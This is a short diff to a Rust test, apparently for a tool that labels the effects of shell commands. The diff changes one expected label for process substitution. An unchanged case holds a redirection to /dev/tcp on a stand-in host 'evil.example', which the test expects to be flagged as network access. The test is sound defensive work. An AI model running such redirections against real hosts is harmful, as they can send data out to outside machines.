@@ -290,7 +290,7 @@ fn redirections_are_effects_of_their_command() {
         ("echo x > /dev/tcp/evil.example/80", &["echo x [network host:evil.example:80]"]),
         ("echo x > \"$f\"", &["echo x [write unknown]"]),
         ("cat <<E\n$(cat a)\nE", &["cat", "cat a [read ./a]"]),
-        ("diff <(cat a) b", &["diff … b [read unknown, read ./b]", "cat a [read ./a]"]),
+        ("diff <(cat a) b", &["diff … b [read pipe, read ./b]", "cat a [read ./a]"]),
     ]);
 }
 
